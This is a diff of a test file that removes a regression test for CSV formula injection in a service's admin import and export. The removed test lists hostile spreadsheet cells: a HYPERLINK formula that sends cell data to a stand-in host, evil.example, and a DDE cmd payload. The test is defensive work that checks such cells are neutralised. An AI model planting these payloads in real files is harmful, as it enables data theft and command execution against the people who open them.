@@ -60,31 +60,6 @@ it('an export has the filter and the order of its list, can be imported again, a
   }
 })
 
-it('attack: cells that a spreadsheet would run leave as text, and come back as they were, twice too', async (t) => {
-  const service = await startService(t)
-  const { token } = await service.admin()
-  const hostile = ['=HYPERLINK("https://evil.example?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=1+1", "''=1"]
-  const line = (name: string): string => JSON.stringify({ name, description: name, iconUrl: 'https://images.example/t.png', status: 'active' })
-  const send = (format: string, rows: string): Promise<ApiResponse> =>
-    service.call('POST', '/api/v1/admin/import', { token, body: { model: 'topic', format, rows, keep: true, ...(format === 'csv' ? { hasHeader: true } : {}) } })
-  const exported = async (): Promise<string> => {
-    const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` }
-    const response = await fetch(service.url + PATH, { method: 'POST', headers, body: JSON.stringify({ model: 'topic', format: 'csv', sort: 'name:asc' }) })
-    return response.text()
-  }
-  assert.equal((await send('ndjson', hostile.map(line).join('\n'))).at('data.inserted'), hostile.length)
-  const csv = await exported()
-  assert.doesNotMatch(csv, /(?:^|\n|,)"?(?:[=+@\t-]|\r(?!\n))/)
-  const again = await send('csv', csv)
-  assert.deepEqual([again.at('data.unchanged'), again.at('data.rejected')], [hostile.length, []])
-  // As a spreadsheet that was opened and saved: without ids, so that each row is a new document.
-  const copies = await send('csv', csv.replaceAll(/^\w{24},/gm, ','))
-  assert.deepEqual([copies.at('data.inserted'), copies.at('data.rejected')], [hostile.length, []])
-  const { at } = await service.data('GET', '', { model: 'topic', limit: 100, sort: 'name:asc' }, { token })
-  const names = (at('data.items') as { readonly name: string }[]).map(({ name }) => name)
-  assert.deepEqual(names.toSorted(), [...hostile, ...hostile].toSorted())
-})
-
 it('what a user has changed is exported whole, by API and command, where a list says that it is a part', async (t) => {
   const service = await startService(t)
   const { token, id } = await service.admin()
